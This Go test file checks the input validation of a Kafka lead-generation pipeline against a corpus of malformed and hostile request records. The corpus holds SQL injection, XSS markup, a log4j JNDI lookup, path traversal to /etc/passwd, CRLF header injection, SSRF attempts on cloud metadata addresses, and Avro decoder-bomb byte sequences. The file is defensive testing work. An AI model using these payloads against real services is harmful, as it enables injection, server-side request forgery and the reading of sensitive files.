package pipeline

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/leadgen/leadgen/internal/failure"
	"github.com/leadgen/leadgen/internal/requestcheck"
	"github.com/leadgen/leadgen/schemas"
	kafka "github.com/segmentio/kafka-go"
)

// hostile is one kind of malformed or odd company-requests record, and
// what must become of it: a dead letter of class Class whose message holds
// Reason, or, when Class is empty, a lead for RequestID counted under Flag
// (empty: no anomaly).
type hostile struct {
	Name   string
	Record kafka.Message
	Class  failure.Class
	Reason string
	// RequestID and Flag are for the kinds that are answered.
	RequestID string
	Flag      requestcheck.Anomaly
}

// hostileKinds is the corpus: each row a kind of record a careless or
// hostile producer may write to company-requests. Dead kinds are keyed
// hostile-NN (the dead letter keeps the key, so the test finds it by key);
// answered kinds carry their own request id.
//
// To add a kind, append a row to the section it belongs to, or add a
// section at the end: the test needs no other change. A request_id reused
// for another company is the aggregator's to refuse (class conflict): see
// TestARequestIDReusedForAnotherCompanyIsDeadLetteredNotMerged.
func hostileKinds(t *testing.T) []hostile {
	good := encode(t, okRequest("hostile-template"))
	head, datum := good[:10], good[10:]
	var kinds []hostile
	add := func(rows ...hostile) { kinds = append(kinds, rows...) }

	// Bytes that are not a CompanyRequest at all: undecodable.
	add(
		dead("an empty value", failure.Undecodable, "bad_magic", []byte{}),
		dead("a null value", failure.Undecodable, "bad_magic", nil),
		dead("random bytes", failure.Undecodable, "bad_magic", randomBytes(512)),
		dead("JSON instead of Avro", failure.Undecodable, "bad_magic", []byte(`{"request_id":"r1","company_name":"Acme"}`)),
		dead("Confluent framing in a process with no schema registry", failure.Undecodable, "no schema registry is configured", append([]byte{0, 0, 0, 0, 1}, datum...)),
		dead("the single-object header alone", failure.Undecodable, "corrupt_datum", head),
		dead("a request truncated in the middle", failure.Undecodable, "corrupt_datum", good[:len(good)/2]),
		dead("a request one byte short", failure.Undecodable, "corrupt_datum", good[:len(good)-1]),
		dead("a request with trailing bytes", failure.Undecodable, "trailing bytes", append(append([]byte{}, good...), "junk"...)),
		dead("an unknown schema fingerprint", failure.Undecodable, "unknown_fingerprint",
			append([]byte{0xC3, 0x01, 0xDE, 0xAD, 0xBE, 0xEF, 0xDE, 0xAD, 0xBE, 0xEF}, datum...)),
		dead("a discovery result sent as a request", failure.Undecodable, "is a DiscoveryResult",
			encodeResult(t)),
		dead("an enriched lead sent as a request", failure.Undecodable, "is a EnrichedLead",
			encodeLead(t)),
		dead("a negative string length", failure.Undecodable, "corrupt_datum", cat(head, long(-5), []byte("abcde"))),
		dead("a string length of a terabyte", failure.Undecodable, "corrupt_datum", cat(head, long(1<<40), []byte("abc"))),
		dead("an array count of a trillion", failure.Undecodable, "corrupt_datum",
			cat(head, str("r"), str("Acme"), long(0), long(0), long(1<<40), str("x"))),
		dead("a negative array count with a huge block size", failure.Undecodable, "corrupt_datum",
			cat(head, str("r"), str("Acme"), long(0), long(0), long(-(1<<40)), long(1<<40))),
		dead("a union index past the last branch", failure.Undecodable, "corrupt_datum",
			cat(head, str("r"), str("Acme"), long(5), str("12345678"))),
		dead("a negative union index", failure.Undecodable, "corrupt_datum",
			cat(head, str("r"), str("Acme"), long(-1), str("12345678"))),
		dead("a union nested inside a union branch", failure.Undecodable, "corrupt_datum",
			cat(head, str("r"), str("Acme"), long(1), long(1), long(1), long(3), []byte("abc"), long(0), long(0))),
		dead("a varint that never ends", failure.Undecodable, "corrupt_datum",
			cat(head, []byte{0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF})),
	)

	// Requests that decode but break a documented limit: invalid.
	add(
		deadRequest(t, "a company name of 161 characters", "company_name too long: 161 characters, the limit is 160",
			func(r *schemas.CompanyRequest) { r.CompanyName = strings.Repeat("n", 161) }),
		// Once it stopped every lead: its aggregator state outgrew the
		// broker's record limit. Now no provider is called for it.
		deadRequest(t, "a request of about 900 KB", "company_name too long: 900000 characters, the limit is 160",
			func(r *schemas.CompanyRequest) { r.CompanyName = strings.Repeat("n", 900_000) }),
		deadRequest(t, "a request id of 129 characters", "invalid request_id: 129 characters, the limit is 128",
			func(r *schemas.CompanyRequest) { r.RequestID = strings.Repeat("r", 129) }),
		deadRequest(t, "an empty request id", "invalid request_id: empty",
			func(r *schemas.CompanyRequest) { r.RequestID = "" }),
		deadRequest(t, "a domain of 254 characters", "invalid domain: 254 characters, the limit is 253",
			func(r *schemas.CompanyRequest) { r.Domain = ptr(hostOf(254)) }),
		deadRequest(t, "a domain label of 64 characters", "longer than 63 characters",
			func(r *schemas.CompanyRequest) { r.Domain = ptr(strings.Repeat("a", 64) + ".example") }),
		deadRequest(t, "one provider name more than are implemented",
			fmt.Sprintf("too many providers: %d names, the limit is %d", requestcheck.MaxProviders+1, requestcheck.MaxProviders),
			func(r *schemas.CompanyRequest) {
				r.Providers = slices.Repeat([]string{"x"}, requestcheck.MaxProviders+1)
			}),
		deadRequest(t, "an unknown provider", `unknown provider "twitter"`,
			func(r *schemas.CompanyRequest) { r.Providers = []string{"twitter"} }),
		deadRequest(t, "control characters in the name", "company_name: control characters (U+001B",
			func(r *schemas.CompanyRequest) { r.CompanyName = "ACME\x1b[2J LTD" }),
		deadRequest(t, "a NUL in the name", "company_name: control characters (U+0000",
			func(r *schemas.CompanyRequest) { r.CompanyName = "ACME\x00LTD" }),
		deadRequest(t, "a NUL in the request id", "invalid request_id: control characters (U+0000",
			func(r *schemas.CompanyRequest) { r.RequestID = "r\x00" }),
		deadRequest(t, "a CR LF header injection in the name", "control characters (U+000D",
			func(r *schemas.CompanyRequest) { r.CompanyName = "ACME\r\nX-Injected: 1" }),
		deadRequest(t, "a bidi override in the name", "control characters (U+202E",
			func(r *schemas.CompanyRequest) { r.CompanyName = "ACME \u202eDTL" }),
		deadRequest(t, "a name that is not UTF-8", "company_name: invalid utf-8",
			func(r *schemas.CompanyRequest) { r.CompanyName = "ACME \xff\xfe" }),
		deadRequest(t, "a blank name without a number", "missing company_name",
			func(r *schemas.CompanyRequest) { r.CompanyName = "   " }),
		deadRequest(t, "a path traversal as company number", `invalid company_number "../../etc/passwd"`,
			func(r *schemas.CompanyRequest) { r.CompanyNumber = ptr("../../etc/passwd") }),
		deadRequest(t, "a query string as company number", `invalid company_number "?x=1&y="`,
			func(r *schemas.CompanyRequest) { r.CompanyNumber = ptr("?x=1&y=") }),
		deadRequest(t, "the cloud metadata address as domain", "not an IP address",
			func(r *schemas.CompanyRequest) { r.Domain = ptr("169.254.169.254") }),
		deadRequest(t, "a metadata URL as domain", "without scheme",
			func(r *schemas.CompanyRequest) { r.Domain = ptr("http://169.254.169.254/latest/meta-data/") }),
		deadRequest(t, "an IPv6 metadata address as domain", "invalid domain",
			func(r *schemas.CompanyRequest) { r.Domain = ptr("fd00:ec2::254") }),
	)

	// Requests a provider cannot take for a reason the limits do not
	// cover: a known provider that is not enabled (this test enables only
	// companies_house).
	add(withKey(deadRequestAs(t, "a request naming only a disabled provider", failure.Permanent, "none of them enabled",
		func(r *schemas.CompanyRequest) { r.RequestID, r.Providers = "hostile-disabled", []string{"x"} }), "hostile-disabled"))

	// Headers: leadgen reads values and keys only; headers travel on.
	many := repeatedHeaders("x-hostile", 20000)
	forged := append(repeatedHeaders("leadgen.original.topic", 500), repeatedHeaders("leadgen.error.class", 500)...)
	add(
		answered(t, "20,000 headers on a good request", "", func(h *hostile) { h.Record.Headers = many }),
		withHeaders(deadRequest(t, "20,000 headers on an invalid request", "company_name too long",
			func(r *schemas.CompanyRequest) { r.CompanyName = strings.Repeat("n", 200) }), many),
		withHeaders(deadRequest(t, "forged leadgen headers repeated a thousand times", "company_name too long",
			func(r *schemas.CompanyRequest) { r.CompanyName = strings.Repeat("n", 200) }), forged),
	)

	// Requests within every limit, however odd: answered.
	add(
		answered(t, "an emoji name", "", func(h *hostile) { h.setName(t, "🦄 Unicorn 👩‍💻 Labs 🇬🇧 Ltd") }),
		answered(t, "a right-to-left name", "", func(h *hostile) { h.setName(t, "شركة الأفق المحدودة") }),
		answered(t, "SQL in the name", "", func(h *hostile) { h.setName(t, "'; DROP TABLE companies; --") }),
		answered(t, "markup in the name", "", func(h *hostile) { h.setName(t, "<script>alert(1)</script>") }),
		answered(t, "a log4j lookup in the name", "", func(h *hostile) { h.setName(t, "${jndi:ldap://example.invalid/a}") }),
		answered(t, "a path traversal in the name", "", func(h *hostile) { h.setName(t, "../../etc/passwd") }),
		answered(t, "every field at its maximum", "", func(h *hostile) {
			h.update(t, func(r *schemas.CompanyRequest) {
				r.CompanyName = strings.Repeat("Ñ", requestcheck.MaxCompanyName)
				r.Domain = ptr(hostOf(requestcheck.MaxDomain))
				r.Providers = append([]string(nil), requestcheck.Providers...)
			})
			h.setID(t, strings.Repeat("m", requestcheck.MaxRequestID))
		}),
	)

	// Accepted but flagged: answered and counted as an anomaly.
	add(
		answered(t, "a key other than the request id", requestcheck.KeyMismatch, func(h *hostile) { h.Record.Key = []byte("someone-else") }),
		answered(t, "no key at all", requestcheck.KeyMismatch, func(h *hostile) { h.Record.Key = nil }),
		answered(t, "requested at the Unix epoch", requestcheck.RequestedAtOutOfRange, func(h *hostile) {
			h.update(t, func(r *schemas.CompanyRequest) { r.RequestedAt = time.UnixMilli(0) })
		}),
		answered(t, "requested in the year 3000", requestcheck.RequestedAtOutOfRange, func(h *hostile) {
			h.update(t, func(r *schemas.CompanyRequest) { r.RequestedAt = time.Date(3000, 1, 1, 0, 0, 0, 0, time.UTC) })
		}),
		answered(t, "requested before the epoch", requestcheck.RequestedAtOutOfRange, func(h *hostile) {
			h.update(t, func(r *schemas.CompanyRequest) { r.RequestedAt = time.UnixMilli(-1e15) })
		}),
	)

	for i := range kinds {
		if kinds[i].Class != "" && kinds[i].Record.Key == nil {
			kinds[i].Record.Key = []byte(fmt.Sprintf("hostile-%02d", i))
		}
	}
	return kinds
}

// okRequest is a request within every limit for a company the sandbox
// does not know: it is answered with a lead of no people.
func okRequest(id string) *schemas.CompanyRequest {
	return &schemas.CompanyRequest{RequestID: id, CompanyName: "Hostile Input Testing Ltd",
		RequestedAt: time.Now().UTC().Truncate(time.Millisecond)}
}

func dead(name string, class failure.Class, reason string, value []byte) hostile {
	return hostile{Name: name, Record: kafka.Message{Value: value}, Class: class, Reason: reason}
}

// deadRequest is a request changed by change so that it is invalid.
func deadRequest(t *testing.T, name, reason string, change func(*schemas.CompanyRequest)) hostile {
	return deadRequestAs(t, name, failure.Invalid, reason, change)
}

func deadRequestAs(t *testing.T, name string, class failure.Class, reason string, change func(*schemas.CompanyRequest)) hostile {
	r := okRequest("hostile-dead")
	change(r)
	return dead(name, class, reason, encode(t, r))
}

// withKey keys a row as its request id, so it is not also a key mismatch.
func withKey(h hostile, key string) hostile {
	h.Record.Key = []byte(key)
	return h
}

func withHeaders(h hostile, headers []kafka.Header) hostile {
	h.Record.Headers = headers
	return h
}

// answered is a good request, keyed by its id, changed by change.
func answered(t *testing.T, name string, flag requestcheck.Anomaly, change func(*hostile)) hostile {
	id := "hostile-ok-" + strings.Join(strings.Fields(name), "-")
	h := hostile{Name: name, RequestID: id, Flag: flag}
	h.Record = kafka.Message{Key: []byte(id), Value: encode(t, okRequest(id))}
	change(&h)
	return h
}

// update re-encodes the request with change applied; the key stays.
func (h *hostile) update(t *testing.T, change func(*schemas.CompanyRequest)) {
	t.Helper()
	r, err := schemas.DecodeCompanyRequest(h.Record.Value)
	if err != nil {
		t.Fatal(err)
	}
	change(r)
	h.Record.Value = encode(t, r)
}

func (h *hostile) setName(t *testing.T, name string) {
	h.update(t, func(r *schemas.CompanyRequest) { r.CompanyName = name })
}

// setID gives the request, its key and its expected lead a new id.
func (h *hostile) setID(t *testing.T, id string) {
	h.update(t, func(r *schemas.CompanyRequest) { r.RequestID = id })
	h.Record.Key, h.RequestID = []byte(id), id
}

func encode(t *testing.T, r *schemas.CompanyRequest) []byte {
	t.Helper()
	b, err := schemas.EncodeCompanyRequest(r)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func encodeResult(t *testing.T) []byte {
	t.Helper()
	b, err := schemas.EncodeDiscoveryResult(&schemas.DiscoveryResult{RequestID: "r", Provider: "x",
		Status: schemas.StatusOK, Layer: schemas.LayerPrimary, FetchedAt: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func encodeLead(t *testing.T) []byte {
	t.Helper()
	b, err := schemas.EncodeEnrichedLead(&schemas.EnrichedLead{LeadKey: "k", RequestID: "r", UpdatedAt: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// long is an Avro long: zig-zag, then a varint, as encoding/binary's
// Varint writes it.
func long(n int64) []byte { return binary.AppendVarint(nil, n) }

// str is an Avro string: its byte length, then the bytes.
func str(s string) []byte { return append(long(int64(len(s))), s...) }

func cat(parts ...[]byte) []byte {
	var out []byte
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

// randomBytes are n bytes from a fixed seed, so the corpus is the same on
// every run.
func randomBytes(n int) []byte {
	r := rand.New(rand.NewPCG(1, 2))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}

// hostOf is a host name of exactly n characters.
func hostOf(n int) string {
	var labels []string
	for n > 64 {
		labels = append(labels, strings.Repeat("a", 63))
		n -= 64
	}
	return strings.Join(append(labels, strings.Repeat("a", n-4)+".com"), ".")
}

func repeatedHeaders(key string, n int) []kafka.Header {
	hs := make([]kafka.Header, n)
	for i := range hs {
		hs[i] = kafka.Header{Key: key, Value: []byte("forged")}
	}
	return hs
}

func ptr(s string) *string { return &s }
